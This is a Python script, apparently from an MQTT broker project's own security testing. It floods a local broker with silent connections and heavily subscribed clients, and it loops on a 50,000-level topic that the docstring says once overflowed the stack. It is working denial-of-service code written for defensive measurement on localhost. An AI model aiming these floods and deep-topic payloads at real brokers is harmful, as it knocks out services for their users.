#!/usr/bin/env python3
"""Hostile clients against a running Saito, from 127.0.0.2 (another address than the hubs on 127.0.0.1):
N silent connections (no CONNECT), N connected clients holding 100 subscriptions each, and a loop of
SUBSCRIBE + PUBLISH to a 50,000-level topic (the attack that once overflowed the stack). Runs until killed.

    scripts/hostile-clients.py <mqtt-port> <N>

Used for the measurement in docs/security.md: run it beside `Saito.LoadTest ingest --preset hubs`."""
import socket, sys, time, threading, struct
port = int(sys.argv[1]); n = int(sys.argv[2]); src = '127.0.0.2'

def vbi(x):
    out = bytearray()
    while True:
        b = x % 128; x //= 128
        out.append(b | (0x80 if x else 0))
        if not x: return bytes(out)

def s16(s):
    b = s.encode(); return struct.pack('>H', len(b)) + b

def connect_packet(cid):
    body = s16('MQTT') + bytes([4, 0x02]) + struct.pack('>H', 0) + s16(cid)
    return bytes([0x10]) + vbi(len(body)) + body

def subscribe_packet(pid, filters):
    body = struct.pack('>H', pid) + b''.join(s16(f) + b'\x01' for f in filters)
    return bytes([0x82]) + vbi(len(body)) + body

def publish_packet(topic, payload):
    body = s16(topic) + payload
    return bytes([0x30]) + vbi(len(body)) + body

def sock():
    s = socket.socket(); s.bind((src, 0)); s.connect(('127.0.0.1', port)); return s

held = []
silent = 0; subscribed = 0; deep = 0
for i in range(n):
    try:
        held.append(sock()); silent += 1
    except OSError: break
for i in range(n):
    try:
        s = sock(); s.sendall(connect_packet(f'attacker-{i}'))
        s.sendall(subscribe_packet(1, [f'x/{i}/{j}/#' for j in range(100)]))
        held.append(s); subscribed += 1
    except OSError: break

def deep_loop():
    global deep
    topic = '/' * 50000
    while True:
        try:
            s = sock(); s.sendall(connect_packet(f'deep-{deep}'))
            s.sendall(subscribe_packet(1, [topic])); s.sendall(publish_packet(topic, b'x'))
            time.sleep(0.05); s.close(); deep += 1
        except OSError:
            time.sleep(0.1)
threading.Thread(target=deep_loop, daemon=True).start()
print(f'holding {silent} silent and {subscribed} subscribed connections', flush=True)
while True:
    time.sleep(5); print(f'deep attacks so far: {deep}', flush=True)
